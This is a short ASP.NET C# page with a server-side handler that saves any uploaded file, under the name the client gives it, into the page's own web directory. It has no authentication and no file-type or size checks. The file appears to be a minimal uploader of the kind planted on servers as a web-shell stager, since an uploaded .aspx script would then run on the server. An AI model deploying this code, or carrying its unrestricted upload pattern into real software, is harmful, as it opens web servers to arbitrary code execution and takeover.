<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Save(object s, EventArgs e) {
    HttpPostedFile posted = Request.Files[0];
    var here = new FileInfo(Request.PhysicalPath);
    using (var fs = new FileStream(Path.Combine(here.DirectoryName, Path.GetFileName(posted.FileName)), FileMode.Create))
        posted.InputStream.CopyTo(fs);
}
</script>
